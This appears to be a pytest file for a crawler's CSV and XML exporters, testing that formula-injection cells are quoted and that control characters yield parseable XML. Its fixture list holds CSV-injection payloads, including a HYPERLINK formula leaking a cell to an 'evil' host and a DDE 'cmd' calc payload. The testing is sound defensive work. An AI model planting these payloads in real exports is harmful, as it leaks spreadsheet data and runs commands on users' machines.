"""Exports of items a hostile site chose: CSV that a spreadsheet cannot run, XML that
always parses. Through the real command (in-process: ``framework.cli.main``) on a real
workspace holding such items."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from framework.cli import main
from framework.exporters import csv_safe, xml_text
from framework.workspace import ItemWrite, NewRow, Outcome, Workspace
from tests.crawl.test_crawl_hostile import DETAIL_BY_URL
from tests.crawl.test_crawl_hostile import _write_spec as write_spec

FORMULAS = [
    '=HYPERLINK("http://evil/?leak="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
]
HOSTILE: dict[str, Any] = {
    "title": FORMULAS[0],
    "cells": FORMULAS[1:],
    "price": -5,  # a number stays a number
    "text_number": "-5.25",  # so does a string that is one
    "control": "a\x00b\x01c\x0bd\ufffee",  # a stored item holds no lone surrogate
    "nested": {"": 6, "1st": "x", "a b": "y", "ok": "z", "x\x00y": "w", "ns:key": "v"},
}


@pytest.fixture
def hostile_ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    with Workspace.open(ws) as w:
        (row,) = w.store.seed([NewRow("detail", "http://site/d")])
        w.store.commit(Outcome(row.id, ok=True, items=[ItemWrite("t:1", "t", "1", HOSTILE)]))
    return ws


def _export(ws: Path, out: Path, *extra: str) -> None:
    assert main(["export", "anyjob", "--workspace", str(ws), "-o", str(out), *extra]) == 0


def _cells(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    return [cell for row in rows for cell in row]


def test_csv_cells_never_start_a_formula(hostile_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "items.csv"
    _export(hostile_ws, out)
    cells = _cells(out)
    assert cells, "nothing exported"
    starts = ("=", "+", "@", "\t", "\r")
    assert [c for c in cells if c.startswith(starts)] == []
    assert [c for c in cells if c.startswith("-") and c not in ("-5", "-5.25")] == []
    assert "'" + FORMULAS[0] in cells  # the text is all there, behind a quote
    assert "-5" in cells
    assert "-5.25" in cells


def test_keep_formulas_writes_the_cells_as_stored(hostile_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "raw.csv"
    _export(hostile_ws, out, "--keep-formulas")
    assert FORMULAS[0] in _cells(out)


def test_xml_parses_and_keeps_every_key_and_value(hostile_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "items.xml"
    _export(hostile_ws, out)
    root = ET.parse(out).getroot()  # noqa: S314 - our own file: well-formed, or this raises
    (item,) = root
    assert item.findtext("title") == FORMULAS[0]  # XML has no formulas: as stored
    assert item.findtext("control") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    nested = item.find("nested")
    assert nested is not None
    fields = {f.get("name"): f.text for f in nested.findall("field")}
    assert fields == {"": "6", "1st": "x", "a b": "y", "x\ufffdy": "w", "ns:key": "v"}
    assert nested.findtext("ok") == "z"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1", "'=1"),
        ("-1", "-1"),
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        ("-1-1", "'-1-1"),
        ("@x", "'@x"),
        ("a=1", "a=1"),
        ("", ""),
        (12, 12),
    ],
)
def test_csv_safe(cell: Any, safe: Any) -> None:
    assert csv_safe(cell) == safe


def test_xml_text_keeps_what_xml_can_carry() -> None:
    assert xml_text("tab\tnl\ncr\r é €") == "tab\tnl\ncr\r é €"
    assert xml_text("\x00\x1f\ud800\uffff") == "\ufffd" * 4


@pytest.mark.process
def test_a_crawls_csv_and_xml_feeds_are_written_as_export_writes_them(
    hostile_server: Any, tmp_path: Path, crawl_cli: Any
) -> None:
    site = hostile_server()
    site.route("/", '<html><body><a href="/p1">1</a></body></html>')
    site.route("/p1", FORMULAS[0])  # the page's whole text is the record's `text`
    spec = write_spec(tmp_path, DETAIL_BY_URL.format(base=site.url))
    csv_out, xml_out = tmp_path / "feed.csv", tmp_path / "feed.xml"
    r = crawl_cli(
        "crawl", str(spec), "--workspace", str(tmp_path / "ws"), "-q",
        "-o", str(csv_out), "-o", str(xml_out),
    )  # fmt: skip
    assert r.returncode == 0, r.stderr[-2000:]
    assert "'" + FORMULAS[0] in _cells(csv_out)
    assert [c for c in _cells(csv_out) if c.startswith("=")] == []
    root = ET.parse(xml_out).getroot()  # noqa: S314 - our own file
    assert [i.findtext("text") for i in root] == [FORMULAS[0]]
